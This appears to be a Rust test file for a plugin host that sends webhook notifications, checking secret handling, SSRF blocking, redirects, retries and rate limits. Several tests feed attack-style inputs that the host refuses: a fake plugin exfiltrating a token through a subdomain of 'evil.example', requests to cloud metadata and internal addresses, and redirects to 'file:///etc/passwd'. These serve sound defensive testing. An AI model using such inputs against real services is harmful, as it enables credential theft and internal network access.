//! What the host does with the requests of a guest: RELIABILITY P8, P9, P10, P12, P18, P33.

use super::server::{Answer, Server, answer};
use super::*;
use crate::select::tests::event;
use crate::send::RESPONSE_MAX_BYTES;

fn own() -> Fake {
    Fake::posting(|| post(vec![secret("address")]))
}

async fn send(guest: &Fake, settings: Settings, address: &str) -> String {
    told(deliver(&notifier(guest, settings), &event(), &subscription(address)).await)
}

#[tokio::test]
async fn secrets_reach_the_service_by_name() {
    let server = Server::start(|_, _| answer(200, &[], b"ok")).await;
    let guest = own();
    let sent = send(&guest, local(), &server.url("/hook?x=1")).await;
    assert_eq!(sent, "Sent { requests: 1 }");
    let received = server.received().remove(0);
    assert_eq!(received.line, "POST /hook?x=1 HTTP/1.1");
    assert_eq!(received.header("authorization"), Some("Bearer CANARY-8f1d"));
    assert_eq!(
        received.header("user-agent"),
        Some(concat!("bulkhead/", env!("CARGO_PKG_VERSION")))
    );
    assert_eq!(received.body, b"hello");
    assert!(!format!("{:?}", guest.calls()).contains(CANARY));
}

#[tokio::test]
async fn settings_that_do_not_fit_the_schema_are_named_before_anything_runs() {
    let server = Server::start(|_, _| answer(200, &[], b"ok")).await;
    let guest = own();
    let manifest = bulkhead_wasm::Manifest::parse(
        r##"{"kind":"notifier","name":"fake","version":"1.0.0",
        "world":"bulkhead:notifier/notifier@0.1.0",
        "configSchema":{"required":["channel"],"additionalProperties":false,
          "properties":{"channel":{"type":"string","pattern":"^#"}}}}"##,
    )
    .unwrap();
    let installed = Installed {
        manifest: Some(std::sync::Arc::new(manifest)),
        ..Installed::new(guest.clone())
    };
    let plugins = HashMap::from([("fake".to_owned(), installed)]);
    let notifier = Notifier::new(plugins, local());
    let send = async |channel: Option<&str>, username: Option<&str>| {
        let mut subscription = subscription(&server.url("/"));
        subscription.provider.spec.channel = channel.map(str::to_owned);
        subscription.provider.spec.username = username.map(str::to_owned);
        told(deliver(&notifier, &event(), &subscription).await)
    };
    for (channel, username, field) in [
        (Some("general"), None, "`channel`"),
        (None, None, "`channel`"),
        (Some("#general"), Some("me"), "`username`"),
    ] {
        let refused = send(channel, username).await;
        assert!(
            refused.contains("does not fit its notifier") && refused.contains(field),
            "{refused}"
        );
    }
    assert!(guest.calls().is_empty());
    assert_eq!(send(Some("#general"), None).await, "Sent { requests: 1 }");
}

#[tokio::test]
async fn secrets_that_are_not_granted_are_not_sent() {
    let server = Server::start(|_, _| answer(200, &[], b"ok")).await;
    let guest = own();
    let send = async |granted: &[&str]| {
        let names = granted.iter().map(|name| (*name).to_owned());
        let installed = Installed {
            secrets: Some(names.collect()),
            ..Installed::new(guest.clone())
        };
        let plugins = HashMap::from([("fake".to_owned(), installed)]);
        let notifier = Notifier::new(plugins, local());
        let subscription = subscription(&server.url("/"));
        told(deliver(&notifier, &event(), &subscription).await)
    };
    let refused = send(&["other"]).await;
    assert!(
        refused.contains("secret `token` is not granted"),
        "{refused}"
    );
    assert!(server.received().is_empty());
    assert_eq!(send(&["token"]).await, "Sent { requests: 1 }");
    assert!(
        guest
            .calls()
            .iter()
            .any(|call| format!("{call:?}").contains(r#"[\"address\"]"#))
    );
}

#[tokio::test]
async fn inner_addresses_are_refused_unless_settings_allow_them() {
    let table = [
        (
            "http://127.0.0.1:1/",
            "refused to send: host `127.0.0.1` is a loopback address",
        ),
        (
            "http://[::ffff:10.0.0.1]/",
            "refused to send: host `[::ffff:a00:1]` is a private address",
        ),
        (
            "http://2852039166/",
            "refused to send: host `169.254.169.254` is a link-local or metadata address",
        ),
        (
            "http://kubernetes.default.svc/",
            "refused to send: host `kubernetes.default.svc` is a private address",
        ),
    ];
    for (address, expected) in table {
        assert_eq!(send(&own(), Settings::default(), address).await, expected);
    }
}

#[tokio::test]
async fn guests_cannot_send_elsewhere() {
    let elsewhere = Fake::posting(|| post(vec![text("https://evil.example/"), secret("token")]));
    let told = send(&elsewhere, local(), "https://hooks.example/x").await;
    assert_eq!(
        told,
        "refused to send: host `evil.example` is neither that of the provider's address nor granted to the plugin"
    );
    // A secret as the host is resolved by nobody and shown to nobody.
    let names = Names::answering(&[&["1.1.1.1"]]);
    let leaking = Fake::posting(|| {
        post(vec![
            text("https://"),
            secret("token"),
            text(".evil.example/"),
        ])
    });
    let settings = Settings {
        resolver: names.clone(),
        ..local()
    };
    let told = send(&leaking, settings, "https://hooks.example/x").await;
    assert!(
        told.contains("host `***.evil.example` is neither"),
        "{told}"
    );
    assert!(names.asked().is_empty());
}

#[tokio::test]
async fn a_name_is_resolved_once_and_the_checked_address_connected_to() {
    let server = Server::start(|_, _| answer(200, &[], b"")).await;
    let names = Names::answering(&[&["127.0.0.1"], &["169.254.169.254"]]);
    let settings = Settings {
        resolver: names.clone(),
        ..local()
    };
    let address = format!("http://hooks.example:{}/", server.port);
    assert_eq!(
        send(&own(), settings, &address).await,
        "Sent { requests: 1 }"
    );
    assert_eq!(names.asked(), ["hooks.example"]);
    let host = format!("hooks.example:{}", server.port);
    assert_eq!(server.received()[0].header("host"), Some(host.as_str()));
    // The second answer is an inner one: refused, though the name passed before.
    let settings = Settings {
        resolver: names,
        ..local()
    };
    let told = send(&own(), settings, &address).await;
    assert_eq!(
        told,
        "refused to send: host `hooks.example` is a link-local or metadata address"
    );
}

#[tokio::test]
async fn one_inner_address_among_public_ones_refuses_the_name() {
    let resolver = Names::answering(&[&["1.1.1.1", "::ffff:192.168.0.1"]]);
    let settings = Settings {
        resolver,
        ..Settings::default()
    };
    let told = send(&own(), settings, "https://hooks.example/").await;
    assert_eq!(
        told,
        "refused to send: host `hooks.example` is a private address"
    );
}

#[tokio::test]
async fn redirects_to_another_origin_lose_what_is_private() {
    let target = Server::start(|_, _| answer(200, &[], b"")).await;
    let to = target.url("/there");
    let server = Server::start(move |request, _| match request.line.as_str() {
        "POST /a HTTP/1.1" => answer(307, &[("Location", "/b")], b""),
        _ => answer(307, &[("Location", &to)], b""),
    })
    .await;
    assert_eq!(
        send(&own(), local(), &server.url("/a")).await,
        "Sent { requests: 1 }"
    );
    let own = server.received();
    assert!(
        own.iter()
            .all(|request| request.header("authorization").is_some())
    );
    assert_eq!(own.len(), 2);
    let foreign = target.received().remove(0);
    assert_eq!(foreign.line, "POST /there HTTP/1.1");
    assert_eq!(foreign.body, b"hello");
    assert_eq!(foreign.header("authorization"), None);
}

#[tokio::test]
async fn a_see_other_becomes_a_get() {
    let server = Server::start(|_, number| match number {
        0 => answer(303, &[("Location", "/done")], b""),
        _ => answer(200, &[], b""),
    })
    .await;
    assert_eq!(
        send(&own(), local(), &server.url("/")).await,
        "Sent { requests: 1 }"
    );
    assert_eq!(server.received()[1].line, "GET /done HTTP/1.1");
    assert!(server.received()[1].body.is_empty());
}

#[tokio::test]
async fn three_redirects_are_followed_and_not_four() {
    for (redirects, expected) in [
        (3, "Sent { requests: 1 }"),
        (4, "refused to send: more than 3 redirects"),
    ] {
        let server = Server::start(move |_, number| match number < redirects {
            true => answer(302, &[("Location", "/again")], b""),
            false => answer(200, &[], b""),
        })
        .await;
        assert_eq!(send(&own(), local(), &server.url("/")).await, expected);
    }
}

#[tokio::test]
async fn redirects_inwards_and_with_credentials_are_refused() {
    let table = [
        (
            "http://169.254.169.254/latest",
            "host `169.254.169.254` is a link-local or metadata address",
        ),
        (
            "http://u:p@127.0.0.1/",
            "a redirect to `127.0.0.1` carries credentials",
        ),
        (
            "file:///etc/passwd",
            "scheme `file` is neither `https` nor `http`",
        ),
    ];
    for (location, expected) in table {
        let server = Server::start(move |_, _| answer(302, &[("Location", location)], b"")).await;
        let told = send(&own(), local(), &server.url("/")).await;
        assert_eq!(told, format!("refused to send: {expected}"));
        assert_eq!(server.received().len(), 1);
    }
}

#[tokio::test]
async fn temporary_failures_are_tried_again() {
    let server = Server::start(|_, number| match number {
        0 => answer(503, &[("Retry-After", "0")], b""),
        1 => Answer::Close,
        2 => answer(429, &[], b""),
        3 => answer(500, &[], b""),
        _ => answer(200, &[], b""),
    })
    .await;
    assert_eq!(
        send(&own(), local(), &server.url("/")).await,
        "Sent { requests: 1 }"
    );
    assert_eq!(server.received().len(), 5);
}

#[tokio::test]
async fn retries_end_and_permanent_failures_have_none() {
    let server = Server::start(|_, _| answer(500, &[], b"down")).await;
    let told = send(&own(), local(), &server.url("/")).await;
    assert_eq!(told, "request failed with status code 500: down");
    assert_eq!(server.received().len(), 5);
    let server = Server::start(|_, _| answer(404, &[], b"no_team")).await;
    let told = send(&own(), local(), &server.url("/")).await;
    assert_eq!(told, "request failed with status code 404: no_team");
    assert_eq!(server.received().len(), 1);
}

#[tokio::test]
async fn a_service_that_asks_for_more_time_than_there_is_gets_it() {
    let server = Server::start(|_, _| answer(429, &[("Retry-After", "60")], b"")).await;
    let told = send(&own(), local(), &server.url("/")).await;
    assert_eq!(told, "the service asked to wait 7s");
    assert_eq!(server.received().len(), 1);
}

#[tokio::test]
async fn the_deadline_is_for_the_whole_delivery() {
    let server = Server::start(|_, _| Answer::Drip(Duration::from_millis(10))).await;
    let mut subscription = subscription(&server.url("/"));
    subscription.provider.spec.timeout = Some(GoDuration::from(Duration::from_millis(200)));
    let notifier = notifier(&own(), local());
    let started = std::time::Instant::now();
    let told = told(deliver(&notifier, &event(), &subscription).await);
    assert_eq!(told, "not delivered within 200ms");
    assert!(started.elapsed() < Duration::from_secs(2));
}

#[tokio::test]
async fn answers_are_cut_and_echoed_secrets_taken_out() {
    let server = Server::start(|request, _| {
        let mut body = request
            .header("authorization")
            .unwrap_or_default()
            .as_bytes()
            .to_vec();
        body.resize(RESPONSE_MAX_BYTES + 10, b'x');
        answer(200, &[("X-Echo", CANARY), ("Set-Cookie", "a=b")], &body)
    })
    .await;
    let guest = own();
    assert_eq!(
        send(&guest, local(), &server.url("/")).await,
        "Sent { requests: 1 }"
    );
    let response = guest.answers().remove(0);
    assert_eq!(response.id, 3);
    assert!(response.body.len() <= RESPONSE_MAX_BYTES);
    assert!(response.body.len() > RESPONSE_MAX_BYTES - CANARY.len());
    assert!(response.body.starts_with(b"Bearer ***xxx"));
    assert!(
        response
            .headers
            .contains(&("x-echo".to_owned(), "***".to_owned()))
    );
    assert!(
        !response
            .headers
            .iter()
            .any(|(name, _)| name == "set-cookie")
    );
}

#[tokio::test]
async fn no_answer_is_status_zero_with_the_reason() {
    let server = Server::start(|_, _| Answer::Close).await;
    let guest = own();
    let told = send(&guest, local(), &server.url(&format!("/{CANARY}"))).await;
    assert!(
        told.starts_with("request failed with status code 0: "),
        "{told}"
    );
    assert_eq!(guest.answers()[0].status, 0);
}

#[tokio::test]
async fn a_provider_s_budget_bounds_what_it_is_sent() {
    let server = Server::start(|_, _| answer(200, &[], b"")).await;
    let flood = Fake::new(|_| next(vec![post(vec![secret("address")]); 16]));
    let rate = crate::retry::Rate {
        burst: 5.0,
        per_second: 0.01,
    };
    let told = send(&flood, Settings { rate, ..local() }, &server.url("/")).await;
    assert!(
        told.starts_with("the rate limit of provider `flux-system/fake` is used up"),
        "{told}"
    );
    assert_eq!(server.received().len(), 5);
}

#[tokio::test]
async fn a_proxy_is_checked_and_used() {
    let proxy = Server::start(|_, _| answer(200, &[], b"")).await;
    let data = BTreeMap::from([("address".to_owned(), proxy.url("").into_bytes())]);
    let mut subscription = subscription("http://hooks.example/x");
    subscription.secrets = subscription.secrets.with_proxy(&data).unwrap();
    let sent = deliver(&notifier(&own(), local()), &event(), &subscription).await;
    assert_eq!(told(sent), "Sent { requests: 1 }");
    assert_eq!(
        proxy.received()[0].line,
        "POST http://hooks.example/x HTTP/1.1"
    );
    let refused = deliver(
        &notifier(&own(), Settings::default()),
        &event(),
        &subscription,
    )
    .await;
    assert_eq!(
        told(refused),
        "refused to send: host `127.0.0.1` is a loopback address"
    );
}
